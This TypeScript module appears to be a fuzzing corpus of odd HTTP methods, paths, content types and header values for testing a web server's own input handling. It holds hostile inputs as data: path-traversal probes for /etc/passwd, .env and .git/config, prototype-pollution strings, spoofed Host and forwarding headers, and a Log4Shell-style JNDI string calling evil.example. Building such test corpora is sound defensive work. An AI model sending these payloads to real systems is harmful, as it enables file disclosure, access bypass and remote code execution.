/** Methods, pieces of paths, headers and media types that no client of ours sends. */

const LONG = 'a'.repeat(4_000)

const words = (text: string) => text.split(/\s+/)

export const METHODS =
  words(`GET HEAD POST PUT DELETE PATCH OPTIONS TRACE CONNECT PROPFIND PURGE SEARCH QUERY M-SEARCH LOCK LINK
    SOURCE get FOO GETGET \u0001 G\u00ffT`)

export const PATH_PIECES = [
  ...words(`% %0 %00 %zz %ff %c3 %c3%28 %c0%ae %ed%a0%80 %f5%80%80%80 %u0041 %252e %2f %5c %2e%2e%2f %0d%0a %20
    %3f %23 .. /../ /..%2f /./ // \\ \\..\\ \u0001 \u007f \u00ff \u00c3\u00a9 ' " <script> | {} ^ \` ~ *
    $ ! ? ?? # & &&& = ; ;a=1 [] [0] [__proto__] ?__proto__=1 + : @ , ?limit=1&limit=2 ?rev=-1
    ?rev=99999999999 ?limit=0 ?epoch=x ?a[b][c]=1`),
  LONG,
  '/a'.repeat(500),
]

/** Whole paths, beside those of endpoints and screens. */
export const PATHS = [
  ...words(`/ // /// /? /# * /% /%ff /\u00ff\u00fe /. /.. /./ /... /\u0001 /api /api/ /api//lots //api/lots
    /API/LOTS /api/lots/ /api/lots;x=1 /%61pi/lots /api%2Flots /api/photos /api/photos//
    /api/photos/x/136 /api/photos/..%2f..%2fetc%2fpasswd/136 /api/session/x /service /service/health
    /service/metrics /service/health?x=%ff /share /share/ /share/x /share/%ff /share/.. /share/a/b
    /sw.js /build.json /index.html /manifest.webmanifest /robots.txt /favicon.svg /assets /assets/
    /assets/x.js /assets/../../package.json /assets/..%2f..%2fpackage.json
    /assets/%2e%2e/%2e%2e/package.json /..%5c..%5cpackage.json /../../../../etc/passwd
    /%c0%ae%c0%ae/etc/passwd /.git/config /.env /server/main.ts /node_modules/fastify/package.json
    /wp-login.php /__proto__ /constructor /toString /?__proto__[x]=1 /?constructor[prototype][x]=1`),
  `/share/${'a'.repeat(43)}`,
  `/share/${LONG}`,
  `/${LONG}`,
  '/a'.repeat(1_000),
  `/?${'a=1&'.repeat(1_000)}`,
]

export const CONTENT_TYPES = [
  '',
  'a',
  '/',
  ';',
  'text/plain',
  'text/html',
  'application/x-www-form-urlencoded',
  'application/ld+json',
  'multipart/form-data; boundary=x',
  'multipart/form-data',
  'application/octet-stream',
  'application/json;;;;',
  'APPLICATION/JSON',
  'application/json; charset=utf-16',
  'application/json; charset=x',
  'application/json, a/b',
  'application/json; charset="',
  'application/json\u00ff',
  'application/json\ttext/plain',
  'application/jsonx',
  LONG,
]

export const CONTENT_ENCODINGS = ['gzip', 'br', 'deflate', 'identity', 'zstd', 'gzip, gzip', 'x', '']

const TOKEN = 'A'.repeat(43)

export const HEADERS: readonly (readonly [name: string, values: readonly string[]])[] = [
  ['Origin', ['null', '', 'https://evil.example', 'http://127.0.0.1', 'http://', 'a b', '%', LONG]],
  ['Sec-Fetch-Site', ['cross-site', 'same-origin', 'same-site', 'none', '', 'x', 'same-origin, cross-site']],
  ['Sec-Fetch-Mode', ['navigate', 'cors', 'no-cors', 'websocket', 'x']],
  ['Sec-Fetch-Dest', ['document', 'empty', 'image', 'iframe', 'x']],
  ['Cookie', ['', '=', ';;;;', 'loupe', 'loupe=', 'loupe="', 'loupe=%ff', '__proto__=1']],
  ['Cookie', [`loupe=${TOKEN}; loupe=x`, `loupe=${LONG}`, 'a=1; '.repeat(300), '\u00ff=\u00ff', 'a\tb']],
  ['Cookie', [`loupe-device=${TOKEN}`, 'loupe-device=%', `loupe=${TOKEN}`, `loupe=${'\u00e9'.repeat(43)}`]],
  [
    'Range',
    ['bytes=0-0', 'bytes=-1', 'bytes=9-1', 'bytes=0-,1-,2-,3-', 'bytes=99999999999999999999-', 'x', ''],
  ],
  ['If-None-Match', ['*', '"x"', 'W/"', ',,,', '"', LONG]],
  ['If-Modified-Since', ['x', '0', 'Sat, 01 Jan 0000 00:00:00 GMT']],
  ['If-Range', ['"x"']],
  [
    'Accept-Encoding',
    ['', '*', 'br', 'gzip', 'br;q=0', 'identity;q=0', '*;q=0', 'gzip;q=x', ';;;', 'br,'.repeat(800), 'zstd'],
  ],
  ['Accept', ['', '*/*;q=9', 'x', 'text/html', LONG]],
  ['Accept-Language', ['', 'xx-\u00ff', '*', `${'en,'.repeat(800)}he`]],
  ['Expect', ['100-continue', '200-ok', '']],
  ['Upgrade', ['websocket', 'h2c', 'TLS/1.3', '']],
  [
    'Connection',
    ['close', 'keep-alive', 'x', 'close, keep-alive', 'Content-Type', 'Host', 'Upgrade, HTTP2-Settings'],
  ],
  [
    'X-Forwarded-For',
    ['9.9.9.9:1001', '[::1]:1', '::ffff:1.2.3.4', '127.0.0.1', 'x', '', '1.1.1.1,'.repeat(400)],
  ],
  ['X-Forwarded-Host', ['evil.example', '']],
  ['X-Forwarded-Proto', ['https', 'javascript']],
  ['Forwarded', ['for=1.1.1.1;host=evil.example', 'for="', '']],
  ['X-Real-IP', ['1.1.1.1', 'x']],
  ['X-HTTP-Method-Override', ['DELETE', 'x']],
  ['X-Original-URL', ['/service/metrics']],
  [
    'Host',
    [
      '',
      'x',
      'evil.example',
      'a:99999',
      '[::1]',
      '127.0.0.1:x',
      'user@host',
      '%',
      'a b',
      'a/b',
      '\u00ff',
      LONG,
    ],
  ],
  ['Authorization', ['', 'Basic', 'Basic %%%', 'Bearer ', `Bearer ${LONG}`]],
  ['User-Agent', ['', '\u00ff\u00fe', LONG, '${jndi:ldap://evil.example/a}']],
  ['Referer', ['', 'x', 'https://evil.example/']],
  ['TE', ['trailers', 'chunked', 'x']],
  ['Trailer', ['Content-Length', 'x']],
  ['Access-Control-Request-Method', ['DELETE', 'x']],
  ['Access-Control-Request-Headers', ['content-type', LONG]],
  ['Max-Forwards', ['0']],
  ['Proxy', ['http://evil.example']],
  ['__proto__', ['1']],
  ['constructor', ['1']],
  ['X', ['\u0080', '\t', '"', LONG]],
  ['Keep-Alive', ['timeout=999999']],
  ['HTTP2-Settings', ['AAMAAABkAAQAAP__']],
]
